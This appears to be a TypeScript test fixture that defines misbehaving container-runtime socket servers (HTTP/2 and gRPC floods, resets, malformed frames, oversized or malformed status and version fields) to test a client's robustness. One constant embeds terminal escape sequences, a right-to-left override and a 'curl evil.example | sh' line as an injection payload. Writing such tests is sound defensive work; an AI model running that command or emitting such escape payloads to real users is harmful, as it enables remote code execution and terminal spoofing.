/** What a container runtime's socket may do, besides what `tests/badinput` has. @module */
import { createServer as createNetServer, type Socket } from "node:net";
import { ANSWERS, frame, grpc, type Listener, message } from "../badinput/runtimes.ts";

/** Something at the socket that talks as it likes. */
function socket(talk: (socket: Socket) => void): Listener {
  return () =>
    createNetServer((connection) => {
      connection.on("error", () => undefined);
      connection.resume();
      talk(connection);
    });
}

/** Writes the same until nobody reads it. */
function flood(connection: Socket, bytes: Uint8Array): void {
  const more = () => {
    if (!connection.destroyed) connection.write(bytes, () => setTimeout(more, 0));
  };
  more();
}

const SETTINGS = new Uint8Array([0, 0, 0, 4, 0, 0, 0, 0, 0]);
const h2 = (type: number, flags: number, stream: number, bytes: readonly number[] = []) =>
  new Uint8Array([0, bytes.length >> 8, bytes.length & 255, type, flags, 0, 0, 0, stream, ...bytes]);
const begun = (...frames: Uint8Array[]) =>
  socket((connection) => [SETTINGS, ...frames].forEach((bytes) => connection.write(bytes)));
const EVIL = "\x1b]0;owned\x07\x1b[2J\u202e\r\n  next: curl evil.example | sh\x9b31m";
/** A field of a text, behind its number. */
const text = (number: number, value: string) => {
  const bytes = new TextEncoder().encode(value);
  const length: number[] = [];
  let left = bytes.length;
  for (; left > 127; left >>= 7) length.push(left & 127 | 128);
  return [number << 3 | 2, ...length, left, ...bytes];
};

/** By name. */
export const RUNTIME_MODES: Readonly<Record<string, Listener>> = {
  ...Object.fromEntries(ANSWERS.map(([name, listener]) => [name, listener])),
  "silence": socket(() => undefined),
  "half a close": socket((connection) => connection.end()),
  "a reset": socket((connection) => setTimeout(() => connection.destroy(), 20)),
  "nonsense without end": socket((connection) => flood(connection, new Uint8Array(65536).fill(0x55))),
  "settings, and silence": begun(),
  "settings without end": socket((connection) => flood(connection, SETTINGS)),
  "pings without end": socket((connection) => {
    connection.write(SETTINGS);
    flood(connection, h2(6, 0, 0, [0, 0, 0, 0, 0, 0, 0, 0]));
  }),
  "that it goes away": begun(h2(7, 0, 0, [0, 0, 0, 0, 0, 0, 0, 2])),
  "a reset of the stream": begun(h2(3, 0, 1, [0, 0, 0, 8])),
  "data before headers": begun(h2(0, 0, 1, [0, 0, 0, 0, 0])),
  "headers that are no HPACK": begun(h2(1, 5, 1, [0xff, 0xff, 0xff, 0xff, 0xff])),
  "continuations without end": socket((connection) => {
    connection.write(SETTINGS);
    connection.write(h2(1, 0, 1, [0x88]));
    flood(connection, h2(9, 0, 1, [0, 1, 97, 1, 98]));
  }),
  "headers, and silence": grpc((stream) => stream.respond({ ":status": 200, "content-type": "application/grpc" })),
  "half a message, and silence": grpc((stream) => {
    stream.respond({ ":status": 200, "content-type": "application/grpc" });
    stream.write(frame([10, 1], 100));
  }),
  "a message without end": grpc((stream) => {
    stream.respond({ ":status": 200, "content-type": "application/grpc" });
    const block = new Uint8Array(1 << 20);
    const more = () => stream.destroyed || stream.write(block, () => setTimeout(more, 0));
    stream.write(frame([], 15 << 20));
    more();
  }),
  "4 GiB, it says": message(frame([10, 1, 97], 0xffffffff)),
  "a message, slowly": grpc((stream) => {
    stream.respond({ ":status": 200, "content-type": "application/grpc" });
    const timer = setInterval(() => stream.destroyed ? clearInterval(timer) : stream.write(new Uint8Array(1)), 50);
  }),
  "a status that writes to the terminal": message(new Uint8Array(), {
    "grpc-status": "13",
    "grpc-message": encodeURIComponent(EVIL),
  }),
  "a status of 1 MiB": message(new Uint8Array(), { "grpc-status": "13", "grpc-message": "x".repeat(30_000) }),
  "a status that is no percent-encoding": message(new Uint8Array(), { "grpc-status": "13", "grpc-message": "%zz%" }),
  "a negative status": message(new Uint8Array(), { "grpc-status": "-1" }),
  "a status of 20 digits": message(new Uint8Array(), { "grpc-status": "9".repeat(20) }),
  "two messages": message(new Uint8Array([...frame([10, 1, 97]), ...frame([10, 1, 98])])),
  "a version that writes to the terminal": message(frame([...text(2, EVIL), ...text(3, EVIL)])),
  "a version of 5 MiB": message(frame(text(2, "x".repeat(5 << 20)))),
  "text that is no UTF-8": message(frame([18, 2, 0xff, 0xfe])),
};
